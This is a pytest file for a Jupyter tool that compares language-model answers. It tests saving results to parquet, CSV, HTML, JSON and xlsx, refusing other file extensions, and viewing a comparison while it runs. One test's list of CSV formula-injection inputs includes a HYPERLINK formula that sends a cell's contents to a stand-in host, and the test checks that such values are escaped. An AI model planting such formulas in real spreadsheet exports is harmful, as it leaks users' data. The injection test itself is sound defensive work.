"""A comparison is saved as what its name says, or not at all; and it can be looked at while it runs."""

from __future__ import annotations

import builtins
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pandas as pd
import pytest

from tetrate_jupyter import errors
from tetrate_jupyter.compare.result import LiveResult, Result

if TYPE_CHECKING:
    from pathlib import Path

    from tetrate_jupyter.face.session import Session


@pytest.fixture
def result(session: Session) -> Result:
    return session.compare(["What is 17 * 23?", "Say hello"], "claude-haiku-4-5,gpt-6-luna")


def test_parquet(result: Result, tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    assert pd.read_parquet(result.save(tmp_path / "r.parquet"))["text"].tolist() == result.df["text"].tolist()


def test_csv_and_html(result: Result, tmp_path: Path) -> None:
    texts = result.df["text"].tolist()
    assert pd.read_csv(result.save(tmp_path / "r.csv"))["text"].tolist() == texts
    assert (result.save(tmp_path / "r.HTML")).read_text(encoding="utf-8").startswith("<!doctype html>")
    for name in ("r.json", "plain"):
        assert Result.load(result.save(tmp_path / name)).df["text"].tolist() == texts
    assert not list(tmp_path.glob(".*"))  # nothing is left beside them


def test_xlsx_has_texts_and_no_formulas(result: Result, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    result.save(tmp_path / "r.xlsx")
    cells = [c for row in openpyxl.load_workbook(tmp_path / "r.xlsx").active.iter_rows() for c in row]
    assert any("391" in str(c.value) for c in cells)
    assert not any(c.data_type == "f" for c in cells)


FORMULAS = ['=HYPERLINK("https://example.org/?"&A1)', "+1", "-1+1", "@SUM(1)", "\t=1", "- a list", "plain - text"]


def test_csv_has_no_formulas(result: Result, tmp_path: Path) -> None:
    rows = [replace(result.rows[0], text=text, repeat=number) for number, text in enumerate(FORMULAS)]
    heads = [replace(head, label=f"=1+{number}") for number, head in enumerate(result.heads)]
    path = Result(result.facts, heads, rows).save(tmp_path / "r.csv")
    frame = pd.read_csv(path, keep_default_na=False)
    assert frame["text"].tolist() == [*(f"'{text}" for text in FORMULAS[:-1]), "plain - text"]
    assert frame["label"].tolist() == ["'=1+0"] * len(FORMULAS)
    loaded = Result.load(Result(result.facts, heads, rows).save(tmp_path / "r.json"))
    assert [row.text for row in loaded.rows] == FORMULAS


@pytest.mark.parametrize("name", ["r.txt", "r.pkl", "r.tar.gz", "r.docx"])
def test_other_names_are_refused(result: Result, tmp_path: Path, name: str) -> None:
    with pytest.raises(errors.ComparisonFileError, match="can't be saved as") as caught:
        result.save(tmp_path / name)
    assert ".csv" in caught.value.next_step
    assert not list(tmp_path.glob("*r.*"))


def test_a_missing_library_is_named(result: Result, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    usual = builtins.__import__

    def without(name: str, *rest: Any, **more: Any) -> Any:
        if name.split(".", maxsplit=1)[0] == "openpyxl":
            raise ImportError(name)
        return usual(name, *rest, **more)

    monkeypatch.setattr(builtins, "__import__", without)
    monkeypatch.setitem(__import__("sys").modules, "openpyxl", None)
    with pytest.raises(errors.ComparisonFileError) as caught:
        result.save(tmp_path / "r.xlsx")
    assert "pip install openpyxl" in caught.value.next_step
    assert not (tmp_path / "r.xlsx").exists()


def test_it_can_be_looked_at_while_it_runs(session: Session, tmp_path: Path) -> None:
    result = session.compare(["Say hello"], "claude-haiku-4-5,gpt-6-luna")
    assert result.comparison is not None
    live = LiveResult(result.comparison)
    assert isinstance(live, Result)
    assert live.df.equals(result.df)
    assert live.wait().rows == live.rows
    again = live.comparison
    assert again is not None
    again.ask_again(live.heads[0].id)
    assert len(live.df) == 2  # while one of them is asked anew
    live.save(tmp_path / "r.csv")
    assert not live.wait(timeout=60).failed
    assert not live.is_running
